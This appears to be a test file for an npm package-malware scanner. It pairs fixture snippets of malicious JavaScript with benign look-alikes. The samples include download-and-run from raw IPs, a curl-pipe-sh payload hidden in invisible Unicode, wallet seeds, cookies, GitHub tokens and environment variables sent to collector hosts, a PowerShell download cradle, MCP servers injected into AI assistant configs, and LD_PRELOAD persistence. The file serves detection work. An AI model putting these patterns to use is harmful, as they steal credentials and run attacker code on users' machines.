/**
 * Paths by which malware's data and code travel that the behaviour model used to lose: a download
 * taken apart by destructuring, text run through `import()` of a data: URL, a payload written in
 * invisible characters, the browser's own senders, a credential printed by a CLI, persistence whose
 * target is built in a loop or pushed through an API. Each beside the legitimate code it must not
 * catch. Hosts are reserved or made up; nothing here was copied from a live sample.
 */
import { describe, expect, it } from 'vitest';
import { exfiltration } from '../../src/detectors/exfiltration/index.js';
import { obfuscatedCode } from '../../src/detectors/obfuscated-code/index.js';
import { persistence } from '../../src/detectors/persistence/index.js';
import { remoteCode } from '../../src/detectors/remote-code/index.js';
import type { PackageDetector } from '../../src/detectors/types.js';
import { analyzeJavaScript, assessObfuscation, longestInvisibleRun, revealVariationSelectors } from '../../src/analysis/javascript/index.js';
import { needsParse } from '../../src/analysis/behaviour/package.js';
import { levelForScore, scoreFindings } from '../../src/report/levels.js';
import { factsFromFixture, type FixtureFile } from '../support/package-fixture.js';

const detectors = [exfiltration, remoteCode, obfuscatedCode, persistence] as PackageDetector[];

function scan(files: Record<string, FixtureFile>, manifest: Record<string, unknown> = {}) {
  const facts = factsFromFixture({
    name: 'pkg-under-test',
    publisher: { name: 'someone', email: 'someone@example.com' },
    versions: [{ version: '1.0.0', publishedAt: '2025-10-01T00:00:00.000Z', manifest: { description: 'x', main: 'index.js', ...manifest }, files }],
  });
  const results = detectors.map((d) => ({ id: d.meta.id, ...d.detect({ facts, options: d.meta.options.parse({}), now: new Date('2025-11-01') }) }));
  const findings = results.flatMap((r) => r.findings.map((f) => ({ ...f, detector: r.id })));
  const score = scoreFindings(findings.map((f) => f.weight));
  return { findings, score, level: levelForScore(score), ids: findings.map((f) => `${f.detector}/${f.messageId}`) };
}

const postinstall = { scripts: { postinstall: 'node index.js' } };
const atLeastMedium = ['medium', 'high', 'critical'];

/** `text` written as the variation selectors a GlassWorm-style payload uses: one per byte. */
function hideInVariationSelectors(text: string): string {
  return [...Buffer.from(text)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
}

describe('downloads taken apart by destructuring', () => {
  it('`const { data } = await axios.get(…)` written to disk and run is download-then-execute', () => {
    const r = scan({
      'index.js': `const axios = require('axios');
const fs = require('fs');
const cp = require('child_process');
async function start() {
  const { data } = await axios.get('http://203.0.113.40/agent', { responseType: 'arraybuffer' });
  fs.writeFileSync('/tmp/.agent', data);
  cp.execFile('/tmp/.agent', () => {});
}
start();
`,
    });
    expect(r.ids).toContain('remote-code/download');
    expect(atLeastMedium).toContain(r.level);
  });

  it('a destructured download that is only parsed as JSON is not remote code', () => {
    const r = scan({
      'index.js': `const axios = require('axios');
module.exports = async function latest(name) {
  const { data } = await axios.get('https://registry.npmjs.org/' + name);
  return JSON.parse(JSON.stringify(data))['dist-tags'].latest;
};
`,
    });
    expect(r.ids).not.toContain('remote-code/download');
  });
});

describe('import() of code that came as text', () => {
  it('fetched text imported through a data: URL is remote code', () => {
    const r = scan({
      'index.js': `const res = await fetch('https://cdn.polyfills.example.com/all.js');
const src = await res.text();
await import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'));
export const ready = true;
`,
    }, { type: 'module' });
    expect(r.ids).toContain('remote-code/download');
    expect(atLeastMedium).toContain(r.level);
  });

  it('a build tool importing a computed module path after fetching something is not remote code', () => {
    const r = scan({
      'index.js': `import path from 'node:path';
export async function loadPlugin(dir, name) {
  const manifest = await fetch('https://plugins.example.com/' + name + '.json').then((r) => r.json());
  return import(path.join(dir, manifest.main));
}
`,
    }, { type: 'module' });
    expect(r.ids).not.toContain('remote-code/download');
  });
});

describe('payloads written in invisible characters', () => {
  const payload = hideInVariationSelectors("require('child_process').exec('curl -s http://203.0.113.9/s | sh')");

  it('a run of variation selectors decoded and evaluated is decode-then-run, and its hidden words are read', () => {
    const r = scan({
      'index.js': `const hidden = '${payload}';
const decode = (s) => Buffer.from([...s].map((ch) => { const c = ch.codePointAt(0); return c >= 0xe0100 ? c - 0xe0100 + 16 : c - 0xfe00; })).toString();
eval(decode(hidden));
exports.platform = () => process.platform;
`,
    });
    expect(r.ids).toContain('remote-code/decode');
    expect(r.ids).toContain('obfuscated-code/hiddenBehaviour');
    expect(atLeastMedium).toContain(r.level);
    expect(revealVariationSelectors(payload)).toContain('child_process');
  });

  it('the same run kept in a template literal, evaluated by an install script, is high (os-info-checker-es6, 2025)', () => {
    const r = scan({
      'index.js': `const s = (v) => [...v].map((w) => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter((n) => n !== null);
eval(Buffer.from(s(\`${payload}\`)).toString('utf-8'));
`,
    }, postinstall);
    expect(r.ids).toContain('remote-code/decode');
    expect(['high', 'critical']).toContain(r.level);
  });

  it('the file is worth a parse even with no other hint than eval beside the run', () => {
    expect(needsParse(`const h = '${payload}';\neval(h);\n`)).toBe(true);
  });

  it('emoji, joiners and a region flag are text, not a payload', () => {
    const text = 'I ❤️ npm 👩‍💻 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ✔️';
    expect(longestInvisibleRun(text)).toBeLessThan(8);
    const analysis = analyzeJavaScript(`module.exports = { greeting: '${text}' };\n`);
    expect(assessObfuscation(analysis).obfuscated).toBe(false);
  });
});

describe('module loaders and payload stages', () => {
  it('a loader that fetches the module its caller names and evaluates it stays below medium', () => {
    const r = scan({
      'index.js': `function load(url) {
  return fetch(url).then((res) => res.text()).then((source) => {
    const module = { exports: {} };
    new Function('module', 'exports', source)(module, module.exports);
    return module.exports;
  });
}
module.exports = load;
`,
    });
    expect(r.ids).toContain('remote-code/download');
    expect(atLeastMedium).not.toContain(r.level);
  });

  it('a stage fetched from an address the file chooses and evaluated is at least medium', () => {
    const r = scan({
      'index.js': `function update() {
  return fetch('https://cdn.example.net/stage2.js').then((res) => res.text()).then((source) => eval(source));
}
update();
module.exports = {};
`,
    });
    expect(r.ids).toContain('remote-code/download');
    expect(atLeastMedium).toContain(r.level);
  });

  it('a program downloaded with the http module (no https) and run is from plain HTTP even when the host is chosen at run time; an assembled host is named', () => {
    const setup = (hostLine: string) => `const http = require('http');
const fs = require('fs');
const cp = require('child_process');
${hostLine}
http.get({ host, path: '/d/svc.exe' }, (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => { fs.writeFileSync('C:/Users/Public/svc.exe', Buffer.concat(chunks)); cp.execFileSync('C:/Users/Public/svc.exe'); });
});
`;
    const chosen = scan({ 'setup.js': setup("const host = require('./hosts.json')[process.platform];") }, { scripts: { install: 'node setup.js' } });
    expect(chosen.findings.find((x) => x.messageId === 'download')?.evidence.from).toMatch(/plain HTTP/);
    expect(['high', 'critical']).toContain(chosen.level);
    // The options object's host, assembled from pieces, is known: the address itself is the evidence.
    const assembled = scan({ 'setup.js': setup("const host = ['198', '51', '100', '23'].join('.');") }, { scripts: { install: 'node setup.js' } });
    expect(assembled.findings.find((x) => x.messageId === 'download')?.evidence.from).toBe('raw IP address 198.51.100.23');
    expect(['high', 'critical']).toContain(assembled.level);
  });
});

describe('a host filled in at run time', () => {
  it('a debugger endpoint on a host the user gives (http://${host}/json) is no plain-HTTP download source', () => {
    const r = scan({
      'bin/debug.js': `const { exec } = require('child_process');
async function attach(clientHost) {
  const res = await fetch(\`http://\${clientHost}/json/list\`);
  const [target] = await res.json();
  exec('open ' + target.devtoolsFrontendUrl);
}
attach(process.argv[2] || '127.0.0.1:9229');
`,
    }, { bin: { 'cds-debug': 'bin/debug.js' } });
    expect(r.findings.find((f) => f.messageId === 'download')?.evidence.from).toBeUndefined();
    expect(['none', 'low', 'medium']).toContain(r.level);
  });
});

describe("the browser's own ways out", () => {
  it('navigator.sendBeacon is a network sink: a stored mnemonic beaconed to a raw IP is exfiltration', () => {
    const r = scan({
      'index.js': `export function backup() {
  const mnemonic = window.localStorage.getItem('wallet-seed');
  if (mnemonic) navigator.sendBeacon('http://203.0.113.222/b', JSON.stringify({ mnemonic }));
}
setTimeout(backup, 3000);
`,
    }, { type: 'module' });
    expect(r.ids).toContain('exfiltration/flow');
  });

  it('new XMLHttpRequest() is a request whose send() carries the data', () => {
    const analysis = analyzeJavaScript(`const x = new XMLHttpRequest();\nx.open('POST', 'http://203.0.113.1/c');\nx.send(document.cookie);\n`);
    expect(analysis.mode === 'ast' && analysis.calls.some((c) => c.callee === 'XMLHttpRequest')).toBe(true);
  });
});

describe('credentials printed by a command-line tool', () => {
  it('`gh auth token` sent to a request collector is exfiltration', () => {
    const r = scan({
      'index.js': `const cp = require('child_process');
const https = require('https');
const token = cp.execSync('gh auth token').toString().trim();
const req = https.request('https://webhook.site/00000000-0000-0000-0000-000000000000', { method: 'POST' });
req.end(JSON.stringify({ token }));
`,
    }, postinstall);
    expect(r.ids).toContain('exfiltration/flow');
    expect(['high', 'critical']).toContain(r.level);
  });

  it('the GitHub CLI token used against the GitHub API is the credential at work, not a theft', () => {
    const r = scan({
      'index.js': `const cp = require('child_process');
const https = require('https');
module.exports = function releases(repo) {
  const token = cp.execSync('gh auth token').toString().trim();
  return https.get({ host: 'api.github.com', path: '/repos/' + repo + '/releases', headers: { Authorization: 'token ' + token } });
};
`,
    });
    expect(atLeastMedium).not.toContain(r.level);
  });
});

describe('persistence the write call does not name', () => {
  it("code appended to the Discord client's core at install is high", () => {
    const r = scan({
      'index.js': `const fs = require('fs');
const path = require('path');
const core = path.join(process.env.LOCALAPPDATA || '', 'Discord', 'app-1.0.9', 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
if (fs.existsSync(core)) fs.appendFileSync(core, "\\nrequire('https').get('https://203.0.113.93/t');\\n");
`,
    }, postinstall);
    expect(r.findings.find((f) => f.detector === 'persistence')?.data?.what).toMatch(/another application/);
    expect(['high', 'critical']).toContain(r.level);
  });

  it("an installed application's own code overwritten by a command the user runs is a write into another application (sw-cur)", () => {
    const r = scan({
      'bin/cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nconst MAIN = '/Applications/Cursor.app/Contents/Resources/app/out/main.js';\nasync function main() {\n  const js = await fetch('https://api.example.dev/v1/runtime').then((r) => r.arrayBuffer());\n  fs.writeFileSync(MAIN, Buffer.from(js));\n}\nmain();\n`,
    }, { bin: { fast: 'bin/cli.js' } });
    expect(r.findings.find((f) => f.detector === 'persistence')?.data?.what).toMatch(/another application/);
    const own = scan({ 'bin/cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nfs.writeFileSync(require('path').join(process.cwd(), 'dist', 'main.js'), 'x');\n` }, { bin: { fast: 'bin/cli.js' } });
    expect(own.ids).not.toContain('persistence/write');
  });

  it('an MCP server added to AI assistant configs in a loop, at install, is at least medium', () => {
    const r = scan({
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const server = { command: 'node', args: ['-e', 'require("./x")'] };
for (const file of [path.join(os.homedir(), '.cursor', 'mcp.json'), path.join(os.homedir(), '.claude.json')]) {
  let config = {};
  try { config = JSON.parse(fs.readFileSync(file, 'utf8')); } catch {}
  config.mcpServers = { ...(config.mcpServers || {}), helper: server };
  fs.writeFileSync(file, JSON.stringify(config, null, 2));
}
`,
    }, postinstall);
    expect(r.findings.find((f) => f.detector === 'persistence')?.data?.what).toMatch(/AI coding assistant/);
    expect(atLeastMedium).toContain(r.level);
  });

  it('an assistant config read (not written) by a usage reporter is not persistence', () => {
    const r = scan({
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
module.exports = () => JSON.parse(fs.readFileSync(path.join(os.homedir(), '.claude.json'), 'utf8')).numStartups;
`,
    });
    expect(r.ids).not.toContain('persistence/write');
  });

  it('a workflow dumping toJSON(secrets) pushed through the GitHub API at install is high', () => {
    const r = scan({
      'index.js': `const https = require('https');
const wf = Buffer.from('on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo "\${{ toJSON(secrets) }}" | curl -d @- https://webhook.site/1\\n').toString('base64');
const req = https.request({ host: 'api.github.com', method: 'PUT', path: '/repos/o/r/contents/.github/workflows/ci.yml' });
req.end(JSON.stringify({ message: 'ci', content: wf }));
`,
    }, postinstall);
    const whats = r.findings.filter((f) => f.detector === 'persistence').map((f) => String(f.data?.what));
    expect(whats.join(' ')).toMatch(/every secret|through the GitHub API/);
    expect(['high', 'critical']).toContain(r.level);
  });
});

describe('calls and commands the file does not spell out', () => {
  it('os.hostname picked by Object.getOwnPropertyNames(os).find(…) and sent is host identity sent', () => {
    const r = scan({
      'index.js': `const os = require('os');
const http = require('http');
const host = os[Object.getOwnPropertyNames(os).find((p) => p === 'hostname')].call({});
http.get('http://collect.example.net/h?host=' + encodeURIComponent(host));
`,
    });
    expect(r.ids).toContain('exfiltration/flow');
  });

  it('a PowerShell cradle from a raw IP kept in a string table is a written dropper', () => {
    const r = scan({
      'index.js': `function strings() { return ['child_process', 'execSync', 'powershell -w hidden -c "iwr http://192.0.2.9/u.ps1|iex"']; }
const t = strings();
try { require(t[0])[t[1]](t[2]); } catch (e) {}
`,
    });
    const f = r.findings.find((x) => x.messageId === 'writtenDropper');
    expect(f?.data?.what).toBe('PowerShell download');
    expect(atLeastMedium).toContain(r.level);
  });

  it("install hints naming a vendor's HTTPS installer, printed by a postinstall, are no dropper (bun, rustup, nvm)", () => {
    const r = scan({
      'index.js': `const hints = {
  win32: 'powershell -c "irm bun.sh/install.ps1 | iex"',
  rust: "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
  nvm: '$ curl https://raw.githubusercontent.com/creationix/nvm/master/install.sh | bash',
};
console.error('install the runtime with: ' + hints[process.platform === 'win32' ? 'win32' : 'rust']);
`,
    }, postinstall);
    expect(r.ids).not.toContain('remote-code/writtenDropper');
    expect(atLeastMedium).not.toContain(r.level);
  });

  it('the environment pushed into a remote database client made from a URL is exfiltration', () => {
    const r = scan({
      'index.js': `const Firebase = require('firebase');
const db = new Firebase('https://demo-0000.firebaseio.example.com/');
const node = db.child('runtime');
node.push({ kind: 'startup', payload: process.env });
module.exports = {};
`,
    });
    expect(r.ids).toContain('exfiltration/flow');
    expect(JSON.stringify(r.findings.find((f) => f.detector === 'exfiltration')?.data)).toMatch(/remote client/);
  });
});

describe('members reached through descriptors, steganography libraries, forced libraries', () => {
  it('os.hostname reached through Object.getOwnPropertyDescriptor(os, …).value and sent is host identity sent', () => {
    const r = scan({
      'index.js': `const os = require('os');
const http = require('http');
const host = Object.getOwnPropertyDescriptor(os, 'hostname').value();
http.get('http://collect.example.net/h?host=' + encodeURIComponent(host));
`,
    });
    expect(r.ids).toContain('exfiltration/flow');
  });

  it('a payload revealed from a shipped image by a steganography library and evaluated is decode-then-run', () => {
    const r = scan({
      'index.js': `const fs = require('fs');
const steggy = require('steggy');
const hidden = steggy.reveal()(fs.readFileSync(__dirname + '/logo.png'));
eval(hidden.toString());
`,
    });
    expect(r.ids).toContain('remote-code/decode');
  });

  it('a planted library forced into a system binary with LD_PRELOAD at install is high', () => {
    const r = scan({
      'index.js': `const fs = require('fs');
const { spawn } = require('child_process');
const lib = '/tmp/.libcache.so';
fs.writeFileSync(lib, Buffer.from(require('./blob.json').so, 'base64'));
spawn('/usr/bin/id', [], { env: { ...process.env, LD_PRELOAD: lib }, detached: true, stdio: 'ignore' }).unref();
`,
      'blob.json': '{"so":"f0VMRgIBAQ=="}',
    }, postinstall);
    expect(r.findings.find((f) => f.messageId === 'dropper')?.data?.what).toMatch(/LD_PRELOAD/);
    expect(['high', 'critical']).toContain(r.level);
  });
});

describe("a package's own platform build", () => {
  it('an installer unpacking its own platform package (named after it) into node_modules is no write into another package', () => {
    const installer = (target: string) => ({
      'index.js': `const fs = require('fs');
const path = require('path');
const dest = path.join(__dirname, 'node_modules', '${target}', 'package', 'bin');
fs.writeFileSync(dest, 'x');
`,
    });
    const own = scan(installer('pkg-under-test-linux-x64'), postinstall);
    expect(own.ids).not.toContain('persistence/write');
    const other = scan(installer('left-pad'), postinstall);
    expect(other.ids).toContain('persistence/write');
  });
});
